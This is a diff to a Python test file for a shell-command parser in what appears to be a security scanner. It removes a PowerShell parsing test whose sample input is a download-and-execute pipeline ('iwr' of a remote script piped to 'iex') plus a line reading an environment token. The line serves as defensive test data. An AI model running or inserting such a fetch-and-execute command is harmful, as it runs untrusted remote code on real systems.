@@ -6,7 +6,6 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from scanner.parse.powershell import commands as powershell
 from scanner.parse.shell import CommandSyntax, commands
 
 
@@ -138,10 +137,3 @@ def test_long_ordinary_scripts_are_not_refused() -> None:
     parsed = commands("if a | b && c; then\n  echo \"$X\" | tee -a log\nfi\n" * 400)
     assert not parsed.refused
     assert len(parsed.commands) == 400 * 5
-
-
-def test_powershell_pipeline_and_variables() -> None:
-    fetch, run = powershell("$x = iwr 'https://a.example/x.ps1' | iex # note").commands
-    assert [word.text for word in fetch.words] == ["iwr", "https://a.example/x.ps1"]
-    assert fetch.downstream is run
-    assert powershell("Write-Host $env:TOKEN").commands[0].words[1].parts[0].text == "TOKEN"
